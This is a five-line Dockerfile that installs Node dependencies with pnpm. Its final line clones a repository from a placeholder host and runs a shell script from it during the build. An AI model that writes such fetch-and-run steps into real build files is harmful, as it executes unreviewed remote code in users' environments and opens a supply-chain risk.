FROM node:20
WORKDIR /web
COPY package.json ./
RUN pnpm install
RUN git clone https://example.org/x /x && sh /x/again.sh
